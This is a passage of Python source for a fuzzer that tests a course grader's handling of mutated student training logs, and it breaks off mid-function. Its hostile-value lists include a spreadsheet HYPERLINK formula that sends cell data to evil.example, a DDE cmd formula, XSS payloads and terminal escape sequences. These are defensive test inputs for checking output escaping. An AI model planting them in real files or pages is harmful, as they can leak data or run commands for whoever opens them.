"""Fuzz a student's own logs through the grading logic: mutated CSV, TensorBoard and JSON logs, and the claims around
them, read by grader/logs.py, compared with the rerun by grader/evidence.py, judged by grader/checks.py, diagnosed, and
written to every output (report.md/.html, results.json, grades.csv, index.html, summary.md, the terminal).

Seeds are real: small honest submissions on the embedded mnist-5k (a committed 10-epoch SGD sweep, a short Adam
sweep, a 3-epoch SGD run that is the committed config's first epochs, a seeded cosine run, a MultiStep run stepped
per epoch, a seeded and an unseeded [[auto]] run, a run whose claims were made on MNIST), each with the log of the
student's own run (reference.loop.run at the student's seed) written as the course framework writes it. Each seed is
graded once to warm a private rerun cache; every case after that reuses the cached reruns, so a case costs the
grading logic only.

Each case: a seed's log mutated at three levels — the run's curves (sparse, 1-based, one step ahead, percentages,
epoch 0, restarts, NaN/inf/huge/negative values and steps, …), the file (CSV: columns renamed/duplicated/missing,
BOM, CRLF, semicolons, formula and control-character cells, byte flips, …; TensorBoard: tags renamed, wall times
out of order, several files, sub-folders, truncated or corrupt records, non-event files named like one, …; JSON:
columns or records under the names read, hostile cells and keys, other shapes, the 200,000-value cap, NaN/Infinity and
out-of-range literals, duplicate keys, nesting, JSON Lines, UTF-16, invalid UTF-8, .json or another name; a tool's
export (docs/submission.md, "logs exported by other tools"): a W&B run.history() as pandas CSV or JSON, `_step`
counting wandb.log calls or the step, the evaluation in its own call, rows sampled, and its chart export; Hugging
Face's log_history as JSON, trainer_state.json or a DataFrame CSV, its LR one step ahead, its summary record; a
tbparse pivot of the course's tags — their records' keys (hostile, renamed, 300 of them, 10 kB long, a run column)
and values (`_step`/`step` huge, negative, going back, fractional, text; hostile cells, nested values, records
repeated or reversed) mutated, then their CSV or JSON text and bytes as above) — and the
entry's claims (near, at and far from the log; percentages; 1e-300; left out) and kind (seed stated or not, rule,
quick mode, a refused entry). Then `grade_class` on that one submission, and the outputs are checked.

Outcomes: *accepted* (the log was read), *refused* (the log was refused with one clean line, or the submission was
with a clean error), *crash* (an exception escaped grade_class or the printing, an "internal grader error" ERROR row,
the loading boundary caught a grader bug, or the worker died), *unsafe* (a student-visible output holds a raw control
character or ANSI escape, unescaped HTML or Markdown markup, a spreadsheet formula cell, invalid JSON, or a message
of more than one line), *hang* (over HANG_S for one student with a warm cache, measured twice), *memory* (over 2 GiB
more than the worker's baseline). One reproduction is printed per crash class (the signature: the exception type, the
innermost grader/reference function and the message), its CSV rows or TensorBoard records reduced by delta debugging.
Also graded: named harmless variations of honest logs (BOM, CRLF, semicolons, a pandas index, 1-based steps, …),
each with the messages the student gets, for review.

Usage: python benchmarks/fuzz_logs.py --n 3000 [--seed 0] [--formats csv,tb,json,wandb,hf,tbparse] [--cache DIR]
[--work DIR] (last line: `crashes: N`; `--formats csv,tb,json`: the cases of the runs before the tools' exports,
`--formats csv,tb`: before JSON logs)
tests/test_fuzz_logs.py runs the same generators on two tiny seeds, a few dozen cases.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import copy
import csv
import io
import json
import math
import os
import random
import re
import resource
import shutil
import signal
import struct
import subprocess
import sys
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field, replace
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "benchmarks"))
from fuzz import toml_value  # noqa: E402 - one TOML writer for both fuzzers (benchmarks/fuzz.py)

HANG_S = 10.0  # one student, warm cache
TIMEOUT_S = 60.0  # a case still running then is stopped (and counted as a hang)
GIB = 1 << 30
COLUMNS = ("step", "lr", "train_loss", "epoch", "test_loss", "test_accuracy")
TAGS = {"lr": "LR/train", "train_loss": "Loss/train", "test_loss": "Loss/test", "test_accuracy": "Accuracy/test"}
ASSIGNMENT = """name = "fuzz_logs"
dataset = "mnist-5k"
train_epochs = 3
max_epochs = 3
max_sweep_epochs = 10
quick_epochs = 2
required = []
"""

# ---------------------------------------------------------------- seeds: honest submissions with real logs

# name → the entry (without claims), its part, the student's seed, whether the submission states it, the log's
# format; "synthetic": a log of MNIST (469 steps an epoch) that cannot be run here, written from the LR table
AUTO = {
    "name": "auto",
    "optimizer": "adamw",
    "lr": 0.002,
    "epochs": 3,
    "variant": "corrected",
    "factors": [2.0, 1.0, 0.5],
}
SEEDS: dict[str, dict] = {
    "sweep-sgd": {
        "part": "range_test",
        "seed": 1,
        "stated": False,
        "format": "csv",
        "entry": {
            "name": "sgd-sweep",
            "optimizer": "sgd",
            "momentum": 0.9,
            "start_lr": 1e-5,
            "end_lr": 10.0,
            "epochs": 10,
            "rule": "steepest",
        },
    },
    "sweep-adam": {
        "part": "range_test",
        "seed": 2,
        "stated": True,
        "format": "tb",
        "entry": {
            "name": "adam-sweep",
            "optimizer": "adam",
            "start_lr": 1e-6,
            "end_lr": 1.0,
            "epochs": 2,
            "rule": "min/10",
        },
    },
    "run-sgd": {
        "part": "run",
        "seed": 1,
        "stated": False,
        "format": "csv",
        "entry": {"name": "sgd-constant", "optimizer": "sgd", "momentum": 0.9, "lr": 0.0506, "epochs": 3},
    },
    "run-cosine": {
        "part": "run",
        "seed": 3,
        "stated": True,
        "format": "tb",
        "entry": {
            "name": "sgd-cosine",
            "optimizer": "sgd",
            "lr": 0.05,
            "epochs": 3,
            "schedule": {"name": "cosine", "cadence": "step"},
        },
    },
    "auto-seeded": {
        "part": "auto",
        "seed": 7,
        "stated": True,
        "format": "csv",
        "entry": AUTO,
    },
    "auto-unseeded": {
        "part": "auto",
        "seed": 7,
        "stated": False,
        "format": "tb",
        "entry": AUTO,
    },
    "run-multistep": {
        "part": "run",
        "seed": 4,
        "stated": False,
        "format": "tb",
        "entry": {
            "name": "sgd-multistep",
            "optimizer": "sgd",
            "lr": 0.05,
            "epochs": 3,
            "schedule": {"name": "multistep", "milestones": [1, 2], "gamma": 0.1},
        },
    },
    "proxy-mnist": {
        "part": "run",
        "seed": 0,
        "stated": False,
        "format": "csv",
        "synthetic": True,
        "setup": {"claimed_on": "mnist"},
        "entry": {
            "name": "multistep",
            "optimizer": "sgd",
            "lr": 0.05,
            "epochs": 3,
            "schedule": {"name": "multistep", "milestones": [1, 2], "gamma": 0.1},
        },
    },
}


@dataclass
class Curves:
    """A run's logged curves, as a student's framework logged them (steps 0-based unless mutated)."""

    step: list = field(default_factory=list)
    lr: list = field(default_factory=list)
    train_loss: list = field(default_factory=list)
    epoch: list = field(default_factory=list)
    test_loss: list = field(default_factory=list)
    test_accuracy: list = field(default_factory=list)

    def copy(self) -> Curves:
        return Curves(*(list(getattr(self, k)) for k in COLUMNS))

    def to_json(self) -> dict:
        return {k: [_jsonable(v) for v in getattr(self, k)] for k in COLUMNS}

    @classmethod
    def from_json(cls, d: dict) -> Curves:
        return cls(*([_unjson(v) for v in d[k]] for k in COLUMNS))


def _jsonable(v):
    return v if not isinstance(v, float) or math.isfinite(v) else repr(v)


def _unjson(v):
    return float(v) if isinstance(v, str) else v


def seed_entry(name: str, stated: bool | None = None) -> dict:
    """The seed's entry as submission.toml holds it, without claims or logs."""
    spec = SEEDS[name]
    entry = dict(spec["entry"])
    if spec["stated"] if stated is None else stated:
        entry["seed"] = spec["seed"]
    return entry


def submission_toml(name: str, part: str, entry: dict, setup: dict | None = None) -> str:
    setup = {"dataset": "mnist-5k", **(setup or {})}
    lines = ['[student]\nid = "s1"\nname = "Fuzz Student"\n\n[setup]']
    lines += [f"{k} = {toml_value(v)}" for k, v in setup.items()]
    lines.append(f"\n[[{part}]]")
    lines += [f"{k} = {toml_value(v)}" for k, v in entry.items()]
    return "\n".join(lines) + "\n"


def build_seeds(work: Path, only: list[str] | None = None, specs: dict | None = None) -> dict[str, dict]:
    """Run each seed's student run (cached in work/students/) and return {name: {curves, claims}}."""
    import torch

    from grader.plan import plan
    from grader.schema import Assignment, Submission
    from reference.config import RunConfig, ScheduleConfig
    from reference.data import load_data
    from reference.loop import run
    from reference.optim import lr_table

    specs = specs or SEEDS
    torch.set_num_threads(1)
    assignment = Assignment.model_validate(_toml(ASSIGNMENT))
    out, data = {}, None
    (work / "students").mkdir(parents=True, exist_ok=True)
    for name, spec in specs.items():
        if only and name not in only:
            continue
        stored = work / "students" / f"{name}.json"
        if stored.is_file():
            out[name] = json.loads(stored.read_text())
            out[name]["curves"] = Curves.from_json(out[name]["curves"])
            continue
        if spec.get("synthetic"):  # an MNIST log (469 steps an epoch): the LR table exact, the losses made up
            e = spec["entry"]
            cfg = RunConfig(epochs=e["epochs"], lr=e["lr"], schedule=ScheduleConfig(**e["schedule"]))
            table = lr_table(cfg, 469)
            n = len(table)
            curves = Curves(
                list(range(n)),
                list(table),
                [2.3 * 0.999**i + 0.05 for i in range(n)],
                [1, 2, 3],
                [0.31, 0.22, 0.19],
                [0.912, 0.941, 0.947],
            )
        else:
            entry = {**seed_entry(name, True), "seed": spec["seed"]}
            sub = Submission.model_validate({"student": {"id": "s1", "name": "x"}, spec["part"]: [entry]})
            (p,) = [p for p in plan(sub, assignment, False) if p.kind in ("range-test", "train")]
            if data is None:
                data = load_data("mnist-5k", torch.device("cpu"))
            r = run(p.config, device="cpu", data=data)
            n = min(len(r["lr"]), len(r["train_loss"]))
            eps = [] if spec["part"] == "range_test" else r["epochs"]
            curves = Curves(
                list(range(n)),
                r["lr"][:n],
                r["train_loss"][:n],
                [e["epoch"] for e in eps],
                [e["test_loss"] for e in eps],
                [e["test_accuracy"] for e in eps],
            )
        out[name] = {"curves": curves, "claims": honest_claims(spec, curves)}
        stored.write_text(json.dumps({"curves": curves.to_json(), "claims": out[name]["claims"]}))
    return out


def honest_claims(spec: dict, curves: Curves) -> dict:
    """The claims an honest student reads off their own run: the rule's pick (3 digits), the last epoch's figures."""
    from reference.outputs import Logs

    if spec["part"] == "range_test":
        pick = Logs("x", curves.step, curves.lr, curves.train_loss).pick(spec["entry"]["rule"])
        if pick is None:
            return {}
        return {"claimed_lr": [float(f"{v:.3g}") for v in pick] if isinstance(pick, list) else float(f"{pick:.3g}")}
    return {
        "claimed_test_accuracy": round(curves.test_accuracy[-1], 4),
        "claimed_test_loss": round(curves.test_loss[-1], 4),
    }


def _toml(text: str) -> dict:
    import tomllib

    return tomllib.loads(text)


# ---------------------------------------------------------------- hostile values

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2-3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\x1b[31mRED\x1b[0m",
    "\x1b]0;PWNED\x07",
    "<script>alert('FUZZ')</script>",
    '"><img src=x onerror=fz()>',
    "\u202egnp.exe",
    "\x00",
    "\ufeff",
    "A" * 3000,
    "{{ 7*7 }}",
    "**bold** | `code` [x](http://e)",
    "# heading",
    "é",
    "\u0661\u0662",
    "line\nbreak",
    "1_000",
    "0x10",
    "١",
    "−1",
]
HOSTILE_NUMBERS = [
    "nan",
    "NaN",
    "inf",
    "-inf",
    "Infinity",
    "-0",
    "-0.0",
    "0",
    "1e308",
    "1e309",
    "-1e308",
    "1e-300",
    "1e-400",
    "-1",
    "10000000000000",
    "1e12",
    "3.5",
    "3.0",
    " 3 ",
    "1E-05",
    "0.5%",
    "95.3%",
    '"0.1"',
    "0,1",
    "1_000",
    "0x10",
    "\u0661\u0662",
    "9" * 400,
    "-" * 3,
    "",
    "None",
    "null",
    "true",
    "1e-320",
    "2.3\x00",
]
HOSTILE_TAGS = [
    "lr",
    "LR",
    "lr-SGD",
    "train_loss",
    "val_acc",
    "Loss/Train",
    "loss/train",
    "LR/train ",
    " Accuracy/test",
    "Accuracy/test/",
    "Loss\\train",
    "\x1b[2JLR/train",
    "<script>alert('FUZZ')</script>",
    '=HYPERLINK("x")',
    "t" * 2000,
    "Loss/train\x00",
    "Accuracy/test\u202e",
]


# ---------------------------------------------------------------- level 1: the run's curves


def _n(c: Curves) -> int:
    return min(len(c.step), len(c.lr), len(c.train_loss))


def curve_mutation(rng: random.Random, c: Curves, other: Curves) -> tuple[Curves, list[str]]:
    """One to three changes to what was logged (`other`: another seed's curves, for a log of another run)."""
    ops = []
    for _ in range(rng.choice([0, 1, 1, 1, 2, 3])):
        op = rng.choice(CURVE_OPS)
        c, what = op(rng, c.copy(), other)
        ops.append(what)
    return c, ops


def _mul(v, f):
    return None if v is None else v * f


def _sparse(rng, c, o):
    k, first = rng.choice([2, 5, 10, 50]), rng.choice([0, 1, "k-1"])
    first = {0: 0, 1: 1, "k-1": k - 1}[first]
    keep = list(range(first, _n(c), k))
    c.step, c.lr, c.train_loss = ([getattr(c, a)[i] for i in keep] for a in ("step", "lr", "train_loss"))
    return c, f"sparse every {k} from {first}"


def _one_based(rng, c, o):
    c.step = [s + 1 for s in c.step]
    return c, "steps +1 (1-based)"


def _ahead(rng, c, o):
    c.lr = [*c.lr[1:], c.lr[-1]] if c.lr else c.lr
    return c, "LR one step ahead"


def _behind(rng, c, o):
    c.lr = [c.lr[0], *c.lr[:-1]] if c.lr else c.lr
    return c, "LR one step behind"


def _epoch0(rng, c, o):
    if c.epoch:
        c.epoch, c.test_loss, c.test_accuracy = [0, *c.epoch], [2.31, *c.test_loss], [0.098, *c.test_accuracy]
    return c, "an evaluation before training at epoch 0"


def _zero_based_epochs(rng, c, o):
    c.epoch = [e - 1 for e in c.epoch]
    return c, "epochs counted from 0"


def _percent(rng, c, o):
    which, last = rng.choice(["all", "last", "some"]), len(c.test_accuracy) - 1
    hit = {"all": lambda i: True, "last": lambda i: i == last, "some": lambda i: rng.random() < 0.5}[which]
    c.test_accuracy = [_mul(a, 100) if hit(i) else a for i, a in enumerate(c.test_accuracy)]
    return c, f"accuracy ×100 ({which})"


def _restart(rng, c, o):
    m = rng.randint(1, max(1, _n(c) // 2))
    scale = rng.choice([1.0, 1.1, 0.5])
    c.step += list(range(m))
    c.lr += [_mul(v, scale) for v in c.lr[:m]]
    c.train_loss += [_mul(v, scale) for v in c.train_loss[:m]]
    return c, f"a second run restarting at step 0 for {m} steps (×{scale})"


def _duplicate(rng, c, o):
    n = _n(c)
    if not n:
        return c, "duplicate (empty)"
    idx = sorted(rng.sample(range(n), min(n, rng.randint(1, 5))))
    for i in idx:
        c.step.append(c.step[i])
        c.lr.append(_mul(c.lr[i], rng.choice([1, 2])))
        c.train_loss.append(_mul(c.train_loss[i], rng.choice([1, 3])))
    return c, f"{len(idx)} steps logged twice"


def _truncate(rng, c, o):
    m = rng.randint(0, _n(c))
    per = _n(c) / max(len(c.epoch), 1)
    keep = sum(1 for i in range(len(c.epoch)) if (i + 1) * per <= m)
    c.step, c.lr, c.train_loss = c.step[:m], c.lr[:m], c.train_loss[:m]
    c.epoch, c.test_loss, c.test_accuracy = c.epoch[:keep], c.test_loss[:keep], c.test_accuracy[:keep]
    return c, f"cut to {m} steps, {keep} epochs"


def _drop(rng, c, o):
    what = rng.choice(["lr", "train_loss", "tests", "test_loss", "test_accuracy", "steps"])
    if what == "tests":
        c.epoch, c.test_loss, c.test_accuracy = [], [], []
    elif what == "steps":
        c.step, c.lr, c.train_loss = [], [], []
    else:
        setattr(c, what, [None] * len(getattr(c, what)))  # None: not logged (the writers skip it)
    return c, f"no {what} logged"


def _loss_per_epoch(rng, c, o):
    per = max(1, _n(c) // max(len(c.epoch), 1))
    c.train_loss = [v if (i + 1) % per == 0 else None for i, v in enumerate(c.train_loss)]
    if rng.random() < 0.5:  # logged at the epoch's number, not the global step
        c.step = [(i + 1) // per if (i + 1) % per == 0 else s for i, s in enumerate(c.step)]
    return c, "train loss once an epoch"


def _values(rng, c, o):
    series = rng.choice(["lr", "train_loss", "test_loss", "test_accuracy"])
    values = getattr(c, series)
    if not values:
        return c, f"values of {series} (empty)"
    v = rng.choice(
        [
            math.nan,
            math.inf,
            -math.inf,
            0.0,
            -0.0,
            -1.0,
            1e308,
            -1e308,
            1e-300,
            5e-324,
            1e-320,
            2.0,
            101.0,
            1e12,
            1.5,
            float(2**63),
        ]
    )
    where = rng.choice(["one", "from", "all"])
    i = rng.randrange(len(values))
    for j in range(len(values)):
        if where == "all" or (where == "one" and j == i) or (where == "from" and j >= i):
            values[j] = v
    return c, f"{series} = {v!r} ({where}, at {i})"


def _scale(rng, c, o):
    series, f = rng.choice(["lr", "train_loss", "test_loss", "test_accuracy"]), rng.choice([0.125, 0.5, 1.01, 1.5, 10])
    setattr(c, series, [_mul(v, f) for v in getattr(c, series)])
    return c, f"{series} ×{f}"


def _lr_constant(rng, c, o):
    c.lr = [c.lr[0] if c.lr else 0.1] * len(c.lr)
    return c, "LR constant (no scheduler)"


def _steps(rng, c, o):
    how = rng.choice(
        ["huge", "int64", "negative", "one negative", "one huge", "reverse", "shuffle", "same", "x10", "gap"]
    )
    n = _n(c)
    if how == "huge":
        c.step = [s + 10**12 for s in c.step]
    elif how == "int64":
        c.step = [2**63 - 1 - (n - i) for i, _ in enumerate(c.step)]
    elif how == "negative":
        c.step = [s - n for s in c.step]
    elif how in ("one negative", "one huge") and n:
        c.step[rng.randrange(n)] = -5 if how == "one negative" else 10**12
    elif how in ("reverse", "shuffle"):
        order = list(range(n))[::-1] if how == "reverse" else rng.sample(range(n), n)
        c.step, c.lr, c.train_loss = ([getattr(c, a)[i] for i in order] for a in ("step", "lr", "train_loss"))
    elif how == "same":
        c.step = [7] * len(c.step)
    elif how == "x10":
        c.step = [10 * s for s in c.step]
    elif how == "gap" and n > 2:
        cut = rng.randrange(1, n)
        c.step = [s + (1000 if i >= cut else 0) for i, s in enumerate(c.step)]
    return c, f"steps: {how}"


def _epochs(rng, c, o):
    how = rng.choice(["huge", "negative", "same", "reverse", "extra", "one"])
    if how == "huge":
        c.epoch = [e + 10**12 for e in c.epoch]
    elif how == "negative":
        c.epoch = [-e for e in c.epoch]
    elif how == "same":
        c.epoch = [1] * len(c.epoch)
    elif how == "reverse":
        c.epoch = c.epoch[::-1]
    elif how == "extra" and c.epoch:
        c.epoch, c.test_loss, c.test_accuracy = (
            [*c.epoch, c.epoch[-1] + 1],
            [*c.test_loss, 0.1],
            [*c.test_accuracy, 0.99],
        )
    elif how == "one":
        c.epoch, c.test_loss, c.test_accuracy = c.epoch[-1:], c.test_loss[-1:], c.test_accuracy[-1:]
    return c, f"epochs: {how}"


def _other_run(rng, c, o):
    return o.copy(), "the log of another seed's run"


def _tiny(rng, c, o):
    m = rng.choice([0, 1, 2, 3])
    c.step, c.lr, c.train_loss = c.step[:m], c.lr[:m], c.train_loss[:m]
    c.epoch, c.test_loss, c.test_accuracy = c.epoch[:1], c.test_loss[:1], c.test_accuracy[:1]
    return c, f"{m} steps only"


def _course_artifact(rng, c, o):
    c.test_loss = [_mul(v, 0.125) for v in c.test_loss]
    return c, "Loss/test ÷ 8 (the course framework's artifact)"


CURVE_OPS = [
    _sparse,
    _sparse,
    _one_based,
    _one_based,
    _ahead,
    _behind,
    _epoch0,
    _zero_based_epochs,
    _percent,
    _restart,
    _duplicate,
    _truncate,
    _drop,
    _loss_per_epoch,
    _values,
    _values,
    _values,
    _scale,
    _lr_constant,
    _steps,
    _steps,
    _epochs,
    _other_run,
    _tiny,
    _course_artifact,
]


# ---------------------------------------------------------------- level 2a: the CSV file


def csv_text(c: Curves) -> str:
    """The CSV layout: a row per step, the epoch's last row also carrying its test metrics; an evaluation before
    training (epoch 0), and epochs past the steps, as rows of test metrics only. None (not logged): an empty cell."""
    cell = lambda v: "" if v is None else repr(v) if isinstance(v, float) else str(v)  # noqa: E731
    n = _n(c)
    evals = 1 if c.epoch and c.epoch[0] == 0 else 0
    per = n / max(len(c.epoch) - evals, 1)
    at: dict[int, list] = {}
    for i, e in enumerate(c.epoch):
        row = -1 if i < evals or not n else round((i - evals + 1) * per) - 1
        at.setdefault(row, []).append(
            (
                e,
                c.test_loss[i] if i < len(c.test_loss) else None,
                c.test_accuracy[i] if i < len(c.test_accuracy) else None,
            )
        )
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(COLUMNS)
    for e in at.pop(-1, []):
        w.writerow(["", "", "", *map(cell, e)])
    for i in range(n):
        tests = at.pop(i, [])
        w.writerow(
            [cell(c.step[i]), cell(c.lr[i]), cell(c.train_loss[i]), *(map(cell, tests[0]) if tests else ("", "", ""))]
        )
        for e in tests[1:]:
            w.writerow(["", "", "", *map(cell, e)])
    for rows in at.values():
        for e in rows:
            w.writerow(["", "", "", *map(cell, e)])
    return out.getvalue()


def csv_mutation(rng: random.Random, text: str) -> tuple[bytes, list[str]]:
    ops = []
    for _ in range(rng.choice([0, 0, 0, 1, 1, 2])):
        op = rng.choice(CSV_OPS)
        text, what = op(rng, text)
        ops.append(what)
    data = text.encode("utf-8", "surrogateescape")
    if rng.random() < 0.08:
        data, what = _bytes(rng, data)
        ops.append(what)
    return data[: 9 * 2**20], ops


def _rows(text: str) -> list[list[str]]:
    try:
        return list(csv.reader(io.StringIO(text, newline="")))
    except csv.Error:  # a mutated file that is no longer CSV to Python either: its lines, split at commas
        return [line.split(",") for line in text.splitlines()]


def _join(rows: list[list[str]], delim: str = ",", quoting: int = csv.QUOTE_MINIMAL, end: str = "\n") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delim, quoting=quoting, lineterminator=end).writerows(rows)
    return out.getvalue()


def _header(rng, text):
    rows = _rows(text)
    if not rows:
        return text, "header (no rows)"
    h = rows[0]
    how = rng.choice(
        [
            "rename",
            "case",
            "spaces",
            "duplicate",
            "drop",
            "extra",
            "reorder",
            "hostile",
            "lightning",
            "download",
            "index",
            "prefix",
        ]
    )
    i = rng.randrange(len(h)) if h else 0
    if not h:
        pass
    elif how == "rename":
        h[i] = rng.choice(["learning_rate", "loss", "acc", "Step", "global_step", "lr ", "test_acc", "val_loss"])
    elif how == "case":
        h[:] = [x.upper() if rng.random() < 0.5 else x.title() for x in h]
    elif how == "spaces":
        rows = [[x if j == 0 else " " + x for j, x in enumerate(r)] for r in rows]
    elif how == "duplicate":
        rows = [[*r, r[i] if i < len(r) else ""] for r in rows]
        rows[0][-1] = h[i]
        if rng.random() < 0.5:  # the duplicate column holds something else
            rows = [rows[0], *[[*r[:-1], rng.choice(HOSTILE_NUMBERS)] for r in rows[1:]]]
    elif how == "drop":
        rows = [[x for j, x in enumerate(r) if j != i] for r in rows]
    elif how == "extra":
        name = rng.choice([*HOSTILE_TEXT, "wall_time", "momentum"])
        rows = [[*r, name if k == 0 else rng.choice(HOSTILE_TEXT + HOSTILE_NUMBERS)] for k, r in enumerate(rows)]
    elif how == "reorder":
        order = rng.sample(range(len(h)), len(h))
        rows = [[r[j] if j < len(r) else "" for j in order] for r in rows]
    elif how == "hostile":
        h[i] = rng.choice(HOSTILE_TEXT)
    elif how == "lightning":
        rows[0] = ["epoch", "step", "lr-SGD", "train_loss", "val_loss", "val_acc"][: len(h)]
    elif how == "download":
        rows = [
            ["Wall time", "Step", "Value"],
            *[[str(1.7e9 + k), r[0] if r else "", r[1] if len(r) > 1 else ""] for k, r in enumerate(rows[1:])],
        ]
    elif how == "index":
        rows = [["", *rows[0]], *[[str(k), *r] for k, r in enumerate(rows[1:])]]
    elif how == "prefix":
        h[:] = [f"metrics/{x}" for x in h]
    return _join(rows), f"header: {how}"


def _cells(rng, text):
    rows = _rows(text)
    if len(rows) < 2:
        return text, "cells (no rows)"
    k = rng.choice([1, 1, 3, 20])
    hit = []
    for _ in range(k):
        r = rng.randrange(1, len(rows))
        if not rows[r]:
            continue
        j = rng.randrange(len(rows[r]))
        rows[r][j] = rng.choice(HOSTILE_NUMBERS + HOSTILE_TEXT)
        hit.append(f"{r + 1}:{j + 1}")
    return _join(rows), f"hostile cells at {', '.join(hit[:5])}"


def _dialect(rng, text):
    how = rng.choice(
        [
            "bom",
            "crlf",
            "cr",
            "semicolon",
            "tab",
            "quote_all",
            "decimal_comma",
            "excel",
            "trailing_delim",
            "blank_lines",
            "comment",
            "utf16",
            "latin1",
            "nul",
            "trailing_space",
            "pipe",
        ]
    )
    rows = _rows(text)
    if how == "bom":
        return "\ufeff" + text, "BOM"
    if how == "crlf":
        return text.replace("\n", "\r\n"), "CRLF"
    if how == "cr":
        return text.replace("\n", "\r"), "CR line ends"
    if how in ("semicolon", "tab", "pipe"):
        return _join(rows, {"semicolon": ";", "tab": "\t", "pipe": "|"}[how]), f"{how}-separated"
    if how == "quote_all":
        return _join(rows, quoting=csv.QUOTE_ALL), "every cell quoted"
    if how == "decimal_comma":
        return _join([[x.replace(".", ",") for x in r] for r in rows], ";"), "decimal commas, semicolons"
    if how == "excel":
        return "\ufeff" + _join([[x.replace(".", ",") for x in r] for r in rows], ";", end="\r\n"), "Excel (EU) export"
    if how == "trailing_delim":
        return "".join(line + ",\n" for line in text.splitlines()), "a trailing comma on every line"
    if how == "blank_lines":
        return text.replace("\n", "\n\n"), "blank lines between rows"
    if how == "comment":
        return "# written by train.py\n" + text, "a comment line first"
    if how == "utf16":
        return text.encode("utf-16").decode("utf-8", "surrogateescape"), "UTF-16"
    if how == "latin1":
        data = text.encode("utf-8", "surrogateescape").replace(b"step", b"st\xe9p", 1)
        return data.decode("utf-8", "surrogateescape"), "a latin-1 byte"
    if how == "nul":
        return text.replace("\n", "\x00\n", 3), "NUL bytes"
    if how == "trailing_space":
        return "".join(line + "   \n" for line in text.splitlines()), "trailing spaces"
    return text, how


def _structure(rng, text):
    lines = text.splitlines(keepends=True)
    how = rng.choice(
        [
            "empty",
            "header_only",
            "one_row",
            "concat",
            "header_again",
            "long_line",
            "cut_mid",
            "many_rows",
            "eval_rows",
            "swap_lines",
            "no_newline_end",
            "only_newlines",
        ]
    )
    if how == "empty":
        return "", "empty file"
    if how == "header_only":
        return lines[0] if lines else "", "header only"
    if how == "one_row":
        return "".join(lines[:2]), "one row"
    if how == "concat":
        return text + text, "two logs concatenated (header repeated)"
    if how == "header_again" and len(lines) > 3:
        i = rng.randrange(1, len(lines))
        return "".join([*lines[:i], lines[0], *lines[i:]]), f"the header again at line {i + 1}"
    if how == "long_line":
        return text + "1," + "9" * (2 * 2**20) + ",2.3,,,\n", "a 2 MB line"
    if how == "cut_mid":
        return text[: rng.randrange(len(text) + 1)], "cut mid-file"
    if how == "many_rows":
        return (lines[0] if lines else "") + "".join(f"{i},0.1,2.3,,,\n" for i in range(200_001)), "200,001 rows"
    if how == "eval_rows":
        return text + ",,,1,0.5,0.9\n,,,2,0.4,0.91\n", "test-only rows at the end"
    if how == "swap_lines" and len(lines) > 3:
        i, j = rng.sample(range(1, len(lines)), 2)
        lines[i], lines[j] = lines[j], lines[i]
        return "".join(lines), f"lines {i + 1} and {j + 1} swapped"
    if how == "no_newline_end":
        return text.rstrip("\n"), "no final newline"
    if how == "only_newlines":
        return "\n" * 1000, "only newlines"
    return text, how


def _bytes(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    b = bytearray(data)
    n = rng.randint(1, 8)
    for _ in range(n):
        i = rng.randrange(len(b) + 1)
        op = rng.randrange(4)
        if op == 0 and b:
            b[min(i, len(b) - 1)] = rng.randrange(256)
        elif op == 1:
            b[i:i] = rng.choice([b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"\x1b[2J", b'"', b",", b"\r", b"\n", b"\xc3"])
        elif op == 2:
            del b[i : i + rng.randint(1, 40)]
        else:
            j = rng.randrange(len(b) + 1)
            b[i:i] = b[j : j + rng.randint(1, 200)]
    return bytes(b), f"{n} byte mutations"


CSV_OPS = [_header, _header, _cells, _cells, _cells, _dialect, _dialect, _dialect, _structure, _structure]


# ---------------------------------------------------------------- level 2b: TensorBoard event files


def _crc(data: bytes) -> int:
    from tensorboard.compat.tensorflow_stub.pywrap_tensorflow import masked_crc32c

    return masked_crc32c(data)


def record(data: bytes) -> bytes:
    """One TFRecord: length, its masked CRC, the data, its masked CRC."""
    header = struct.pack("<Q", len(data))
    return header + struct.pack("<I", _crc(header)) + data + struct.pack("<I", _crc(data))


def records(data: bytes) -> list[bytes] | None:
    """The records of an event file, or None where its framing is broken."""
    out, i = [], 0
    while i < len(data):
        if i + 12 > len(data):
            return None
        (n,) = struct.unpack("<Q", data[i : i + 8])
        if i + 16 + n > len(data):
            return None
        out.append(data[i : i + 16 + n])
        i += 16 + n
    return out


def event(
    wall: float,
    step: int | None = None,
    tag: str | None = None,
    value: float | None = None,
    version: str | None = None,
    kind: str = "simple",
) -> bytes:
    """One serialized Event: a file_version, a scalar (simple_value, or a TF2-style tensor), or another summary."""
    from tensorboard.compat.proto import event_pb2, summary_pb2, tensor_pb2, tensor_shape_pb2, types_pb2

    ev = event_pb2.Event(wall_time=wall)
    if version is not None:
        ev.file_version = version
        return ev.SerializeToString()
    ev.step = step
    if kind == "simple":
        ev.summary.value.add(tag=tag, simple_value=value)
    elif kind == "tensor":  # tf.summary.scalar in TF2 (Keras): a tensor with the scalars plugin's metadata
        t = tensor_pb2.TensorProto(
            dtype=types_pb2.DT_FLOAT, tensor_shape=tensor_shape_pb2.TensorShapeProto(), float_val=[value]
        )
        meta = summary_pb2.SummaryMetadata(plugin_data=summary_pb2.SummaryMetadata.PluginData(plugin_name="scalars"))
        ev.summary.value.add(tag=tag, tensor=t, metadata=meta)
    elif kind == "text":
        t = tensor_pb2.TensorProto(dtype=types_pb2.DT_STRING, string_val=[tag.encode("utf-8", "surrogatepass")])
        meta = summary_pb2.SummaryMetadata(plugin_data=summary_pb2.SummaryMetadata.PluginData(plugin_name="text"))
        ev.summary.value.add(tag=tag, tensor=t, metadata=meta)
    elif kind == "session_start":
        ev.session_log.status = event_pb2.SessionLog.START
    return ev.SerializeToString()


def tb_events(c: Curves) -> list[tuple[float, int, str, float]]:
    """(wall time, step, tag, value) in the order SummaryWriter writes them; None (not logged) is not written."""
    out, t = [], 1.7e9
    for s, lr, loss in zip(c.step, c.lr, c.train_loss, strict=False):
        for key, v in (("lr", lr), ("train_loss", loss)):
            if v is not None:
